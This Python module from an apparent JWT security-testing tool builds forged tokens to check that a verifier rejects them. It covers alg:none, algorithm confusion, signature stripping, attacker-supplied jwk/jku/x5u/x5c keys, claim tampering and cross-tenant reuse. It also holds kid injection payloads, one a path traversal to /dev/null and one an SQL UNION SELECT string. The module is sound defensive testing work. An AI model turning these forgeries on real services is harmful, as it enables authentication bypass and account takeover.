"""The forgery catalogue: tokens a correctly configured JWT verifier must refuse, one class per classic hole.

Every token is built from the identity provider's real JWKS and a real valid token of a real tenant, so that only
the attacked property is wrong (RFC 8725, "JSON Web Token Best Current Practices", sections 2 and 3). A class that
needs a token the probe cannot make (the claim classes need the IdP to sign a token with a bad ``exp``/``iss``/...;
the lab authority can, a real IdP cannot) or that the user switched off (``FORGERY_SKIP``) is reported as skipped
with the reason, never dropped silently.

Pure: no network. ``build_catalogue(material)`` -> (forgeries, skipped) for one tenant; ``build_catalogues`` over
``tenant_materials(...)`` for every tenant the run drives. The watch step sends them
(``chaosext.auth.judge.probe_round``, which rotates classes over tenants) and judges the answers (``judge_attempts``).
"""
from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from chaosext.core.errors import ConfigError

if TYPE_CHECKING:
    from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
    from cryptography.x509 import Certificate

__all__ = ["Forgery", "Material", "CLASSES", "MINTED", "build_catalogue", "build_catalogues", "tenant_materials",
           "parse_skip", "key_documents",
           "public_key_secrets", "b64url", "b64url_decode", "split_token"]

#: ``mint(class name, overrides, omit) -> token``: a token the IdP itself signed for the valid token's tenant and
#: subject, with claims replaced (``overrides``) and removed (``omit``); None when the IdP cannot do it.
Mint = Callable[[str, dict[str, Any], tuple[str, ...]], "str | None"]


def b64url(data: bytes) -> str:
    """base64url without padding (RFC 7515 section 2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def b64url_decode(text: str) -> bytes:
    """Inverse of :func:`b64url`."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def split_token(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """(header, claims, signature part) of a compact JWS, without verifying anything."""
    h, p, s = token.split(".")
    return json.loads(b64url_decode(h)), json.loads(b64url_decode(p)), s


def _json(doc: dict[str, Any]) -> str:
    return b64url(json.dumps(doc, separators=(",", ":")).encode())


@dataclass(frozen=True)
class Forgery:
    """One forged request: which class and variant, the token, and the tenant header it is sent with."""

    name: str
    variant: str
    token: str
    tenant: str
    #: why a correct verifier refuses it (documentation and the unit tests)
    refusal: str


def _new_attacker_key() -> RSAPrivateKey:
    """A fresh 2048-bit RSA key for the attacker (never the IdP's)."""
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@dataclass
class Material:
    """What the catalogue is built from (all of it real except the attacker's own key and URL)."""

    jwks: dict[str, Any]
    #: a valid IdP-signed token of ``tenant``
    token: str
    tenant: str
    #: another real tenant (cross-tenant class); "" when there is only one
    other_tenant: str = ""
    #: a valid IdP-signed token of ``other_tenant`` (foreign-signature class); "" when there is none
    other_token: str = ""
    #: a URL the probe controls, for ``jku``/``x5u`` (serves ``key_documents``); "" skips those classes
    key_url: str = ""
    mint: Mint | None = None
    #: the attacker's RSA key (a new one by default); tests pass one in
    attacker_key: RSAPrivateKey = field(default_factory=_new_attacker_key)
    _cert: Certificate | None = field(default=None, repr=False)

    @property
    def header(self) -> dict[str, Any]:
        return split_token(self.token)[0]

    @property
    def claims(self) -> dict[str, Any]:
        return split_token(self.token)[1]

    @property
    def attacker_jwk(self) -> dict[str, Any]:
        from jwt.algorithms import RSAAlgorithm

        jwk: dict[str, Any] = json.loads(RSAAlgorithm.to_jwk(self.attacker_key.public_key()))
        jwk.update({"kid": "chaosext-attacker", "use": "sig", "alg": "RS256"})
        return jwk

    @property
    def cert(self) -> Certificate:
        """A self-signed certificate of the attacker's key (x5c / x5u)."""
        if self._cert is None:
            from cryptography import x509
            from cryptography.hazmat.primitives import hashes
            from cryptography.x509.oid import NameOID

            name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "chaosext forged issuer")])
            now = datetime.datetime.now(datetime.UTC)
            self._cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
                          .public_key(self.attacker_key.public_key()).serial_number(x509.random_serial_number())
                          .not_valid_before(now - datetime.timedelta(days=1))
                          .not_valid_after(now + datetime.timedelta(days=2))
                          .sign(self.attacker_key, hashes.SHA256()))
        return self._cert

    def rs256(self, header: dict[str, Any], claims: dict[str, Any]) -> str:
        """Sign with the attacker's key (never the IdP's)."""
        from cryptography.hazmat.primitives import hashes
        from cryptography.hazmat.primitives.asymmetric import padding

        signing_input = f"{_json(header)}.{_json(claims)}"
        sig = self.attacker_key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
        return f"{signing_input}.{b64url(sig)}"


def key_documents(m: Material) -> dict[str, tuple[str, bytes]]:
    """What the probe's key URL serves: path -> (content type, body): the attacker's JWKS and certificate."""
    from cryptography.hazmat.primitives import serialization

    return {"/jwks.json": ("application/json", json.dumps({"keys": [m.attacker_jwk]}).encode()),
            "/cert.pem": ("application/x-pem-file", m.cert.public_bytes(serialization.Encoding.PEM))}


def _hmac(alg: str, secret: bytes, header: dict[str, Any], claims: dict[str, Any]) -> str:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    signing_input = f"{_json(header)}.{_json(claims)}"
    return f"{signing_input}.{b64url(hmac.new(secret, signing_input.encode(), digest).digest())}"


def public_key_secrets(jwk: dict[str, Any]) -> dict[str, bytes]:
    """The byte strings a confused verifier may use as an HMAC secret for this public key: its PEM
    (SubjectPublicKeyInfo, as most libraries load it) and the raw JWK JSON (as published, compact)."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from jwt.algorithms import RSAAlgorithm

    key = RSAAlgorithm.from_jwk(jwk)
    public = key.public_key() if isinstance(key, rsa.RSAPrivateKey) else key  # a JWKS should hold only public keys
    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return {"pem": pem, "jwk": json.dumps(jwk, separators=(",", ":")).encode()}


# ---------------------------------------------------------------------------------------------------------------
# the classes (name -> builder); each builder returns its variants
# ---------------------------------------------------------------------------------------------------------------
def alg_none(m: Material) -> list[Forgery]:
    """``alg: none`` — an unsigned token (RFC 8725 §2.1, §3.1: never accept ``none`` unless explicitly expected).

    The valid token's header and claims with ``alg`` set to none/None/NONE/nOnE, once with an empty signature and
    once keeping the original signature (a verifier that switches on ``alg`` ignores it)."""
    _, _, sig = m.token.split(".")
    out = []
    for alg in ("none", "None", "NONE", "nOnE"):
        head = {**m.header, "alg": alg}
        for trailing, label in (("", ""), (sig, "+sig")):
            out.append(Forgery("alg-none", alg + label, f"{_json(head)}.{_json(m.claims)}.{trailing}", m.tenant,
                               "algorithm not allowed"))
    return out


def alg_confusion(m: Material) -> list[Forgery]:
    """Algorithm confusion: HS256/HS384/HS512 keyed with a published RSA public key (RFC 8725 §2.1, §3.1, §3.2: the
    RS256 -> HS256 downgrade). One variant per JWKS key, algorithm and secret form (PEM bytes, raw JWK JSON)."""
    out = []
    for jwk in m.jwks.get("keys") or []:
        if jwk.get("kty") != "RSA":
            continue
        for form, secret in public_key_secrets(jwk).items():
            for alg in ("HS256", "HS384", "HS512"):
                head = {**m.header, "alg": alg, "kid": jwk.get("kid", m.header.get("kid"))}
                out.append(Forgery("alg-confusion", f"{alg}/{form}/{jwk.get('kid', '?')}",
                                   _hmac(alg, secret, head, m.claims), m.tenant, "algorithm not allowed"))
    return out


def unknown_kid(m: Material) -> list[Forgery]:
    """A key the IdP never published: the valid claims signed RS256 by the attacker's key under a new ``kid``
    (RFC 8725 §3.1: keys come from the trusted issuer only). During an outage a fail-open service lets it in."""
    head = {**m.header, "kid": "chaosext-unknown-" + secrets.token_hex(4)}
    return [Forgery("unknown-kid", "attacker-key", m.rs256(head, m.claims), m.tenant, "no such key")]


def bad_signature(m: Material) -> list[Forgery]:
    """A known ``kid`` and the valid header and claims, with the signature's bytes corrupted: catches a service that
    checks the ``kid`` but not the signature (RFC 7515 §5.2)."""
    h, p, s = m.token.split(".")
    raw = bytearray(b64url_decode(s))
    raw[len(raw) // 2] ^= 0xFF
    return [Forgery("bad-signature", "flipped-byte", f"{h}.{p}.{b64url(bytes(raw))}", m.tenant, "bad signature")]


def empty_signature(m: Material) -> list[Forgery]:
    """Signature stripped under a real algorithm: the valid RS256 header (the IdP's ``kid``) and claims with an
    empty signature (``header.payload.``). Catches a verifier that treats a missing signature as "nothing to check"
    (ServiceStack CVE-2020-28042) or looks up a verified-token cache by the signing input alone (RFC 7515 §5.2)."""
    h, p, _ = m.token.split(".")
    return [Forgery("empty-signature", "RS256-no-signature", f"{h}.{p}.", m.tenant, "bad signature")]


def truncated_signature(m: Material) -> list[Forgery]:
    """Signature stripped under a real algorithm: the valid token with its RS256 signature cut short (half of it;
    all but its last byte). Catches a verifier that compares only as many bytes as it was given, or a token cache
    keyed by the signing input (RFC 7515 §5.2: the whole signature must verify)."""
    h, p, s = m.token.split(".")
    raw = b64url_decode(s)
    return [Forgery("truncated-signature", variant, f"{h}.{p}.{b64url(cut)}", m.tenant, "bad signature")
            for variant, cut in (("half", raw[: len(raw) // 2]), ("one-byte-short", raw[:-1]))]


def foreign_signature(m: Material) -> list[Forgery]:
    """A real IdP signature on the wrong token, under a real algorithm: another tenant's valid token's signature on
    this token's header and claims, and this token's own signature on its claims with a new ``jti``. Catches a
    verifier (or a verified-token cache) that trusts a signature it has seen verify before without checking that
    it signs THIS header and payload (RFC 7515 §5.2)."""
    h, p, s = m.token.split(".")
    out = []
    if m.other_token:
        out.append(Forgery("foreign-signature", "other-tenant-token", f"{h}.{p}.{m.other_token.split('.')[2]}",
                           m.tenant, "bad signature"))
    edited = {**m.claims, "jti": "chaosext-" + secrets.token_hex(6)}
    out.append(Forgery("foreign-signature", "edited-claims", f"{h}.{_json(edited)}.{s}", m.tenant, "bad signature"))
    return out


def embedded_jwk(m: Material) -> list[Forgery]:
    """A token that brings its own key in the ``jwk`` header, signed by it (CVE-2018-0114 class; RFC 8725 §3.1/§3.10
    by extension: a key the token supplies is not a trusted key). Keeps the real ``kid``."""
    head = {**m.header, "jwk": {k: v for k, v in m.attacker_jwk.items() if k not in ("use",)}}
    return [Forgery("embedded-jwk", "attacker-key", m.rs256(head, m.claims), m.tenant, "bad signature")]


def jku(m: Material) -> list[Forgery]:
    """``jku`` pointing at a JWKS the probe serves (the attacker's key): a verifier must never fetch keys from a URL
    the token names (RFC 8725 §3.10, "Do not trust received claims" applied to key URLs)."""
    head = {**m.header, "jku": m.key_url.rstrip("/") + "/jwks.json", "kid": "chaosext-attacker"}
    return [Forgery("jku", "probe-url", m.rs256(head, m.claims), m.tenant, "no such key")]


def x5u(m: Material) -> list[Forgery]:
    """``x5u`` pointing at a self-signed certificate the probe serves (RFC 8725 §3.10; RFC 7515 §4.1.5)."""
    head = {**m.header, "x5u": m.key_url.rstrip("/") + "/cert.pem"}
    return [Forgery("x5u", "probe-url", m.rs256(head, m.claims), m.tenant, "bad signature")]


def x5c(m: Material) -> list[Forgery]:
    """``x5c`` carrying a self-signed certificate of the attacker's key, signed by it: trusting a chain the token
    brings without anchoring it is accepting the attacker's key (RFC 7515 §4.1.6; RFC 8725 §3.10)."""
    from cryptography.hazmat.primitives import serialization

    der = m.cert.public_bytes(serialization.Encoding.DER)
    head = {**m.header, "x5c": [base64.b64encode(der).decode()]}
    return [Forgery("x5c", "self-signed", m.rs256(head, m.claims), m.tenant, "bad signature")]


#: kid injection payloads: (variant, kid, HMAC secret the injected lookup yields)
KID_INJECTIONS = (
    ("path-traversal", "../../../../../../../../dev/null", b""),
    ("sql", "chaosext' UNION SELECT 'chaosext-key' -- ", b"chaosext-key"),
)


def kid_injection(m: Material) -> list[Forgery]:
    """``kid`` injection: a ``kid`` that a key lookup by file path or SQL turns into a key the attacker knows
    (``/dev/null`` = empty key; ``UNION SELECT`` = chosen key), HS256-signed with that key (RFC 8725 §3.10: sanitise
    ``kid``; §3.1: pin the algorithm)."""
    return [Forgery("kid-injection", variant, _hmac("HS256", secret, {**m.header, "alg": "HS256", "kid": kid},
                                                    m.claims), m.tenant, "algorithm not allowed")
            for variant, kid, secret in KID_INJECTIONS]


def _claim_class(name: str, doc: str, overrides: Callable[[Material], dict[str, Any]], omit: tuple[str, ...],
                 refusal: str) -> Callable[[Material], list[Forgery]]:
    def build(m: Material) -> list[Forgery]:
        token = m.mint(name, overrides(m), omit) if m.mint else None
        return [Forgery(name, "idp-signed", token, m.tenant, refusal)] if token else []

    build.__doc__ = doc
    build.__name__ = name.replace("-", "_")
    return build


#: seconds past ``exp`` / before ``nbf``: far beyond any sane clock-skew leeway (RFC 7519 §4.1.4 "small leeway")
FAR = 3 * 3600

expired = _claim_class(
    "expired", "Expired: IdP-signed, ``exp`` three hours ago, far beyond any leeway (RFC 7519 §4.1.4; RFC 8725 §3.8 "
               "implies validating all claims).", lambda m: {"exp": int(time.time()) - FAR,
                                                             "iat": int(time.time()) - FAR - 600}, (), "expired")
nbf_future = _claim_class(
    "nbf-future", "Not yet valid: IdP-signed, ``nbf`` three hours ahead (RFC 7519 §4.1.5).",
    lambda m: {"nbf": int(time.time()) + FAR}, (), "not yet valid")
exp_missing = _claim_class(
    "exp-missing", "No ``exp`` at all: an IdP-signed token that never expires must not be accepted by a service that "
                   "requires expiry (RFC 8725 §3.8: require the claims your validation depends on).",
    lambda m: {}, ("exp",), "exp required")
wrong_iss = _claim_class(
    "wrong-iss", "Wrong issuer: IdP-signed, ``iss`` another issuer (RFC 8725 §3.8: validate the issuer).",
    lambda m: {"iss": str(m.claims.get("iss", "")).rstrip("/") + "/chaosext-other-issuer"}, (), "bad issuer")
wrong_aud = _claim_class(
    "wrong-aud", "Wrong audience: IdP-signed for another API (RFC 8725 §3.9: use and validate ``aud``; the "
                 "substitution attack of §2.8).", lambda m: {"aud": "chaosext-other-audience"}, (), "bad audience")
iss_missing = _claim_class(
    "iss-missing", "No ``iss``: IdP-signed without an issuer (RFC 8725 §3.8).", lambda m: {}, ("iss",),
    "iss required")
aud_missing = _claim_class(
    "aud-missing", "No ``aud``: IdP-signed without an audience, usable against any API (RFC 8725 §3.9, §2.8).",
    lambda m: {}, ("aud",), "aud required")


def cross_tenant(m: Material) -> list[Forgery]:
    """Cross-tenant: tenant A's VALID token (unchanged) sent with the tenant header of another real tenant B; a
    multi-tenant service must refuse (403) — a token of one tenant is not a key to another's data (RFC 8725 §2.7,
    §3.11 by analogy: one token, one context)."""
    if not m.other_tenant:
        return []
    return [Forgery("cross-tenant", f"{m.tenant}->{m.other_tenant}", m.token, m.other_tenant, "tenant mismatch")]


#: class name -> builder, in the order the verdict lists them
CLASSES: dict[str, Callable[[Material], list[Forgery]]] = {
    "alg-none": alg_none,
    "alg-confusion": alg_confusion,
    "unknown-kid": unknown_kid,
    "bad-signature": bad_signature,
    "empty-signature": empty_signature,
    "truncated-signature": truncated_signature,
    "foreign-signature": foreign_signature,
    "embedded-jwk": embedded_jwk,
    "jku": jku,
    "x5u": x5u,
    "x5c": x5c,
    "kid-injection": kid_injection,
    "expired": expired,
    "nbf-future": nbf_future,
    "exp-missing": exp_missing,
    "wrong-iss": wrong_iss,
    "wrong-aud": wrong_aud,
    "iss-missing": iss_missing,
    "aud-missing": aud_missing,
    "cross-tenant": cross_tenant,
}

#: why a class built nothing (shown as the skip reason)
_UNAVAILABLE = {
    "cross-tenant": "needs two tenants in TENANTS",
    "jku": "needs a key URL the probe serves",
    "x5u": "needs a key URL the probe serves",
}
MINTED = ("expired", "nbf-future", "exp-missing", "wrong-iss", "wrong-aud", "iss-missing", "aud-missing")


def parse_skip(value: Any) -> tuple[str, ...]:
    """``FORGERY_SKIP`` (comma-separated class names) -> names; raises ConfigError (a ValueError) naming unknown
    classes."""
    items = value if isinstance(value, (list, tuple)) else str(value or "").split(",")
    names = tuple(s.strip() for s in items if str(s).strip())
    unknown = [n for n in names if n not in CLASSES]
    if unknown:
        raise ConfigError(f"FORGERY_SKIP names unknown classes {unknown}; remove them (known: {', '.join(CLASSES)})")
    return names


def tenant_materials(jwks: dict[str, Any], tokens: dict[str, str], key_url: str = "",
                     mint_for: Callable[[str], Mint | None] | None = None,
                     attacker_key: RSAPrivateKey | None = None) -> list[Material]:
    """One :class:`Material` per tenant of ``tokens`` ({tenant: valid token}, in the run's tenant order): the
    forgeries of every tenant the run drives (a service may fail open for some tenants only). Each tenant's
    cross-tenant and foreign-signature forgeries use the next tenant (in a ring); one attacker key and certificate
    for all (the key URL serves one key); ``mint_for(tenant)`` is that tenant's IdP minting, if any."""
    key = attacker_key if attacker_key is not None else _new_attacker_key()
    tenants = list(tokens)
    out: list[Material] = []
    for i, tenant in enumerate(tenants):
        other = tenants[(i + 1) % len(tenants)] if len(tenants) > 1 else ""
        m = Material(jwks=jwks, token=tokens[tenant], tenant=tenant, other_tenant=other,
                     other_token=tokens.get(other, ""), key_url=key_url,
                     mint=mint_for(tenant) if mint_for else None, attacker_key=key)
        if out:
            m._cert = out[0].cert  # the certificate the key URL serves
        out.append(m)
    return out


def build_catalogues(materials: list[Material], skip: tuple[str, ...] = ()
                     ) -> tuple[list[Forgery], dict[str, str]]:
    """:func:`build_catalogue` for every tenant's material, concatenated in tenant order; a class is skipped when it
    built nothing for any tenant (with the first tenant's reason)."""
    forgeries: list[Forgery] = []
    skipped: dict[str, str] = {}
    for m in materials:
        made, why = build_catalogue(m, skip)
        forgeries.extend(made)
        for name, reason in why.items():
            skipped.setdefault(name, reason)
    built = {f.name for f in forgeries}
    return forgeries, {name: reason for name, reason in skipped.items() if name not in built}


def build_catalogue(m: Material, skip: tuple[str, ...] = ()) -> tuple[list[Forgery], dict[str, str]]:
    """Every class's forgeries, and {class: why skipped} for the classes switched off or impossible here."""
    forgeries: list[Forgery] = []
    skipped: dict[str, str] = {}
    for name, build in CLASSES.items():
        if name in skip:
            skipped[name] = "switched off by FORGERY_SKIP"
            continue
        if name in ("jku", "x5u") and not m.key_url:
            skipped[name] = _UNAVAILABLE[name]
            continue
        made = build(m)
        if not made:
            skipped[name] = _UNAVAILABLE.get(name) or (
                "the IdP cannot sign a token with this claim (only the lab authority can); switch it off with "
                "FORGERY_SKIP or test it against the lab" if name in MINTED else "nothing to build")
        forgeries.extend(made)
    return forgeries, skipped
